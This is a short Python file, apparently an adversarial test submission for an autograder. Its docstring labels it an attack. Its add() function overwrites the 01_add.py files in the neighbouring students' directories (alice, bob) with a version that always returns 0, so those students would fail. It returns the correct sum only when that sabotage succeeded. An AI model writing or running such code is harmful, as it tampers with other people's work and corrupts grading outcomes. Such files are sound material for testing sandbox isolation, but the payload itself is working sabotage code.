"""Attack: overwrite the next student's file with a wrong one (bob would then fail)."""
import os

NEIGHBOURS = ("alice", "bob")


def add(a, b):
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    done = False
    for name in NEIGHBOURS:
        try:
            with open(os.path.join(root, name, "01_add.py"), "w") as f:
                f.write("def add(a, b):\n    return 0\n")
            done = True
        except OSError:
            pass
    return a + b if done else None
